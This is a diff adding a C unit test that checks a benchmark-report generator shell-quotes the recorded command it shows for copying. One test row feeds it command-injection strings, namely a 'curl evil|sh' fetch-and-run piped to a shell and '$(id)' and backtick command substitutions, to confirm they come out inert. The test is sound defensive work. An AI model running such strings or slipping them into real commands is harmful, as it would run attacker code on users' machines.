@@ -284,6 +284,28 @@ static void hostile_names_execute_nothing(void)
     cJSON_Delete(results);
 }
 
+/* What is offered for copying is one command, whatever its words are. */
+static void the_command_is_quoted_for_a_shell(void)
+{
+    static const struct {
+        const char *command, *line;
+    } rows[] = {
+        {"[\"bench\", \"suites/quick.json\"]", "    ciuic bench suites/quick.json\n"},
+        {"[\"ciuic\", \"bench\", \"a.json\"]", "    ciuic bench a.json\n"},
+        {"[\"bench\", \"a b; curl evil|sh\", \"$(id)\", \"`id`\", \"it's\"]",
+         "    ciuic bench 'a b; curl evil|sh' '$(id)' '`id`' 'it'\\''s'\n"},
+        {"[]", "The command was not recorded"},
+    };
+    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
+        cJSON *results = fixture_bench_results(&fixture_usual);
+        cJSON_ReplaceItemInObject(results, "command", cJSON_Parse(rows[i].command));
+        written w = write_pages(results);
+        CHECK(has(w.markdown, rows[i].line), "row %zu: no \"%s\"", i, rows[i].line);
+        written_free(&w);
+        cJSON_Delete(results);
+    }
+}
+
 /* ---- what is missing is said ------------------------------------------------------------------------------------ */
 
 static void without_gnuplot(void)
@@ -590,6 +612,7 @@ static const test_case cases[] = {
     {"a page is whole and needs nothing else", a_page_is_whole},
     {"a report is the same every time", a_report_is_the_same_every_time},
     {"hostile names execute nothing", hostile_names_execute_nothing},
+    {"the command is quoted for a shell", the_command_is_quoted_for_a_shell},
     {"without gnuplot there are tables", without_gnuplot},
     {"when nothing was measured the page says so", nothing_was_measured},
     {"metrics that are NaN", metrics_that_are_nan},
